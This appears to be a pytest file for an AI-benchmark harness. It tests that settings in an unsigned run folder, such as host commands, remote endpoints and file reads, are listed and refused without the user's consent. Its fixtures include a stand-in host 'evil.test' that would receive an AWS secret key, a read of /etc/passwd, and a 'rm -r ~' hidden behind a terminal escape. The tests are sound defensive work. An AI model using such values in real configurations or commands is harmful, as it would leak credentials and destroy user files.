"""The settings of a run folder that nobody shows to be the user's own have no effect without his consent."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Literal

import pytest
from case_checks import each_case

from harness.benchmarks import definition_of
from harness.benchmarks.options import Options, list_option_effects
from harness.core.errors import UsageError
from harness.runs import trust
from harness.runs.config import RunConfig, load_config
from harness.runs.recorded_run import add_recorded_settings
from harness.runs.settings import KEYS
from harness.runs.trust import Rerun, bound_rerun, list_effects, require_trust, require_trusted_file, sign_run

LIMITS = {"memory_mb": 8192, "cpus": 2.0, "uncounted_sockets": True, "cpu_seconds": 5}
ENDPOINT = {"model": "m", "base_url": "http://evil.test/v1", "api_key_env": "AWS_SECRET_ACCESS_KEY"}


def make_config(**settings: Any) -> RunConfig:
    return RunConfig.model_validate({"benchmark": "gsm8k", "agent": "null", **settings}, strict=False)


def write_manifest(folder: Path, *, is_own: bool = False, **settings: Any) -> dict[str, Any]:
    config = make_config(**settings)
    manifest = {
        "schema_version": 1,
        "run_id": "r",
        "benchmark": config.benchmark,
        "agent": config.agent,
        "source": "bundled",
        "data": {"kind": "bundled", "location": "p", "sha256": "0", "rows": 1},
        "images": {},
        "config": config.model_dump(mode="json"),
    }
    manifest = sign_run(manifest) if is_own else manifest
    (folder / "manifest.json").write_text(json.dumps(manifest))
    return manifest


@each_case(
    "settings",
    [
        {},
        {"agent": "oracle", "benchmark": "agentbench", "timeout_seconds": 300, "rounds": 4},
        {"agent": "command", "command": {"cmd": "x", "env": {"A": "b"}}},
        {"mcp_servers": [{"name": "a", "command": "x", "where": "sandbox"}]},
        {"mcp_servers": [{"name": "a", "command": "x"}], "baseline": True},
        {"endpoints": {"unused": ENDPOINT}},
        {"limits": {"memory_mb": 512, "processes": 16}, "isolation": "attempt"},
        {"benchmark": "agentbench", "options": {"protocol": "v0.2", "kg": {"strict": True}}},
        {"benchmark": "livecodebench", "options": {"release": "v1", "start_date": "2024-01-01"}},
    ],
)
def test_a_run_that_stays_in_sandboxes_has_no_effect(settings: dict[str, Any]) -> None:
    assert list_effects(make_config(**settings)) == []


@each_case(
    ("settings", "effect"),
    [
        ({"benchmark": "/tmp/OWN.PY"}, "run the benchmark /tmp/OWN.PY as Python on this machine"),
        ({"agent": "own.py"}, "run the agent own.py as Python on this machine"),
        ({"agent": "module:Name"}, "run the agent module:Name as Python on this machine"),
        (
            {
                "agent": "command",
                "command": {"cmd": "x -y", "where": "host", "env": {"A": "b"}, "pass_env": ["C"]},
            },
            "run on this machine: x -y with the environment variables A=b, C=${C}",
        ),
        (
            {"agent": "codex", "command": {"where": "host"}},
            "run on this machine: the program of agent codex",
        ),
        (
            {"mcp_servers": [{"name": "a", "command": "x", "args": ["-y"], "env": {"A": "${B}"}}]},
            "run on this machine, as MCP server a: x -y with the environment variables A=${B}",
        ),
        (
            {"mcp_servers": [{"name": "a", "url": "http://evil.test", "headers": {"K": "${KEY}"}}]},
            "send requests for MCP server a to http://evil.test with the headers K: ${KEY}",
        ),
        (
            {"mcp_servers": [{"name": "a", "command": "x", "where": "sandbox", "env": {"A": "${B}"}}]},
            "start MCP server a in a sandbox with the environment variables A=${B}",
        ),
        (
            {"agent": "chat", "model": "m", "base_url": "http://evil.test/v1"},
            "ask the model m at http://evil.test/v1 with the key in the environment variable OPENAI_API_KEY",
        ),
        (
            {"agent": "chat", "model": "e", "endpoints": {"e": ENDPOINT}},
            "ask the model m at http://evil.test/v1 with the key in the environment variable "
            "AWS_SECRET_ACCESS_KEY",
        ),
        (
            {"benchmark": "agentbench", "options": {"lateral": {"host": ENDPOINT}}},
            "ask the judge m at http://evil.test/v1 with the key in the environment variable "
            "AWS_SECRET_ACCESS_KEY",
        ),
        (
            {"benchmark": "agentbench", "options": {"lateral": {"host": "e"}}, "endpoints": {"e": ENDPOINT}},
            "ask the judge m at http://evil.test/v1 with the key in the environment variable "
            "AWS_SECRET_ACCESS_KEY",
        ),
        (
            {"benchmark": "agentbench", "options": {"kg": {"sparql_url": "http://evil.test/q"}}},
            "send requests to http://evil.test/q, as option kg.sparql_url says",
        ),
        (
            {"benchmark": "agentbench", "options": {"web": {"index": "/home/me/x"}}},
            "write search indexes into the folder /home/me/x, as option web.index says",
        ),
        (
            {"benchmark": "livecodebench", "options": {"solutions": "/etc/passwd"}},
            "read the file /etc/passwd, as option solutions says",
        ),
        ({"benchmark": "mbpp", "limits": {"memory_mb": 8192}}, "use limits.memory_mb 8192"),
        ({"benchmark": "mbpp", "limits": {"uncounted_sockets": True}}, "use limits.uncounted_sockets True"),
        ({"benchmark": "mbpp", "isolation": "run"}, "use isolation run"),
        ({"benchmark": "mbpp", "allow_weaker": True}, "use allow_weaker True"),
        ({"benchmark": "mbpp", "allow_network": True}, "use allow_network True"),
        (
            {"benchmark": "mbpp", "executor": "ray", "ray_address": "evil.test:1"},
            "use ray_address evil.test:1",
        ),
        ({"benchmark": "agentbench", "rounds": 9000}, "use rounds 9000"),
        ({"benchmark": "mbpp", "timeout_seconds": 600}, "use timeout_seconds 600"),
    ],
)
def test_each_effect_outside_of_sandboxes_is_listed(settings: dict[str, Any], effect: str) -> None:
    assert list_effects(make_config(**settings)) == [effect]


def test_a_set_up_command_is_listed_before_its_server() -> None:
    server = {"name": "a", "command": "x", "setup_command": "make it"}
    assert list_effects(make_config(mcp_servers=[server])) == [
        "run in a shell on this machine, for MCP server a: make it",
        "run on this machine, as MCP server a: x",
    ]


def test_an_unknown_folder_is_refused_with_all_effects_whole_and_escaped(tmp_path: Path) -> None:
    program = f"true \x1b[8m{'x' * 5000}; rm -r ~"
    manifest = write_manifest(tmp_path, agent="own.py", command={"cmd": program, "where": "host"})
    with pytest.raises(UsageError) as caught:
        require_trust(tmp_path, manifest, make_config(**manifest["config"]), is_trusted=False)
    assert "\n- run the agent own.py as Python on this machine" in caught.value.message
    assert rf"true \x1b[8m{'x' * 5000}; rm -r ~" in caught.value.message
    assert caught.value.hint is not None
    assert "--trust" in caught.value.hint


def test_a_folder_of_the_user_or_one_that_is_accepted_is_taken_as_it_is(tmp_path: Path) -> None:
    own = write_manifest(tmp_path, is_own=True, agent="own.py", limits=LIMITS)
    foreign = {**own, "signature": "0" * 64}
    config = make_config(**own["config"])
    assert require_trust(tmp_path, own, config, is_trusted=False)
    assert require_trust(tmp_path, foreign, config, is_trusted=True)
    assert bound_rerun(tmp_path, own, config, is_trusted=False) == Rerun(config, is_trusted=True)


def test_an_unknown_folder_without_effects_needs_no_trust_and_gets_none(tmp_path: Path) -> None:
    manifest = write_manifest(tmp_path)
    assert not require_trust(tmp_path, manifest, make_config(), is_trusted=False)


def test_only_the_benchmark_of_an_unknown_folder_matters_where_no_attempt_is_made(tmp_path: Path) -> None:
    manifest = write_manifest(tmp_path, agent="own.py", limits=LIMITS)
    assert not require_trusted_file(tmp_path, manifest, make_config(agent="own.py"), is_trusted=False)
    with pytest.raises(UsageError, match=r"run the benchmark own\.py as Python"):
        require_trusted_file(tmp_path, manifest, make_config(benchmark="own.py"), is_trusted=False)


class UndeclaredOptions(Options):
    address: str = "none"
    places: tuple[Path, ...] = ()
    count: int = 1
    mode: Literal["a", "b"] | None = None


def test_an_option_of_free_text_that_declares_no_effect_counts_as_one() -> None:
    values = {"address": "http://evil.test", "places": ["/x"], "count": 7, "mode": "b"}
    assert list(list_option_effects(UndeclaredOptions, values)) == [
        "use the value http://evil.test, as option address says",
        "use the value ['/x'], as option places says",
    ]
    assert list(list_option_effects(UndeclaredOptions, {"address": "none"})) == []


def test_an_option_of_a_benchmark_without_a_model_counts_as_an_effect() -> None:
    assert list(list_option_effects(None, {"a": 1})) == ["use the value 1, as option a says"]


@each_case("name", ["agentbench", "livecodebench", "livecodebench-execution", "math"])
def test_each_option_of_our_benchmarks_declares_whether_it_has_an_effect(name: str) -> None:
    model = definition_of(name).options
    assert model is not None
    assert list_undeclared(model) == []


def list_undeclared(model: type[Options]) -> list[str]:
    found: list[str] = []
    for name, field in model.model_fields.items():
        if isinstance(field.annotation, type) and issubclass(field.annotation, Options):
            found += list_undeclared(field.annotation)
        elif any("use the value" in each for each in list_option_effects(model, {name: "other"})):
            found.append(name)
    return found


def test_options_with_an_effect_are_refused_where_a_folder_is_merged_or_replayed(tmp_path: Path) -> None:
    options = {"kg": {"sparql_url": "http://evil.test/q"}}
    manifest = write_manifest(tmp_path, benchmark="agentbench", options=options)
    config = make_config(benchmark="agentbench", options=options)
    with pytest.raises(UsageError, match=r"send requests to http://evil\.test/q"):
        require_trusted_file(tmp_path, manifest, config, is_trusted=False)
    with pytest.raises(UsageError, match=r"send requests to http://evil\.test/q"):
        load_replay(tmp_path)
    assert load_replay(tmp_path, options={"kg": {"strict": True}}).options == {"kg": {"strict": True}}


def test_of_the_settings_without_a_rule_only_the_harmless_ones_are_taken() -> None:
    values = {name: object() for name, key in KEYS.items() if key.rules.foreign != "examined"}
    config = make_config(benchmark="mbpp").model_copy(update=values)
    assert sorted(trust.find_excess(config)) == [
        *("allow_network", "allow_weaker", "base_images", "build_ca"),
        *("grading_network", "ray_address", "seal", "timeout_multiplier"),
    ]


def test_a_rerun_of_an_unknown_folder_takes_no_limit_beyond_the_defaults(tmp_path: Path) -> None:
    manifest = write_manifest(tmp_path, benchmark="mbpp", limits=LIMITS, timeout_seconds=600, isolation="run")
    again = bound_rerun(tmp_path, manifest, make_config(**manifest["config"]), is_trusted=False)
    assert not again.is_trusted
    assert again.config.limits.model_dump(exclude_unset=True) == {"cpu_seconds": 5}
    assert (again.config.timeout_seconds, again.config.isolation) == (None, "task")
    (notice,) = again.notices
    for untaken in ("limits.memory_mb 8192", "limits.uncounted_sockets True", "timeout_seconds 600"):
        assert untaken in notice


def load_replay(folder: Path, **values: Any) -> RunConfig:
    return load_config(None, {"replay_from": str(folder), **values}, add_settings=add_recorded_settings)


def test_a_replay_of_an_unknown_run_takes_no_limit_beyond_the_defaults(tmp_path: Path) -> None:
    write_manifest(tmp_path, benchmark="agentbench", limits=LIMITS, rounds=9000, isolation="run")
    config = load_replay(tmp_path)
    assert config.limits.model_dump(exclude_unset=True) == {"cpu_seconds": 5}
    assert (config.rounds, config.isolation) == (None, "task")


def test_a_replay_of_a_run_of_the_user_takes_its_limits(tmp_path: Path) -> None:
    write_manifest(tmp_path, is_own=True, benchmark="agentbench", limits=LIMITS, rounds=9000)
    config = load_replay(tmp_path)
    assert config.limits.model_dump(exclude_unset=True) == LIMITS
    assert config.rounds == 9000


def test_a_replay_takes_the_file_of_a_benchmark_only_from_a_run_of_the_user(tmp_path: Path) -> None:
    own = tmp_path / "my own.py"
    write_manifest(tmp_path, is_own=True, benchmark=str(own))
    assert load_replay(tmp_path).benchmark == str(own)
    write_manifest(tmp_path, benchmark=str(own))
    with pytest.raises(UsageError, match="from no unknown run folder") as raised:
        load_replay(tmp_path)
    assert raised.value.hint == f"name the file if you trust it: -b '{own}'"


def test_limits_that_the_user_names_himself_are_those_of_the_replay(tmp_path: Path) -> None:
    write_manifest(tmp_path, benchmark="agentbench", limits=LIMITS)
    config = load_replay(tmp_path, limits={"memory_mb": 4096})
    assert config.limits.model_dump(exclude_unset=True) == {"memory_mb": 4096}
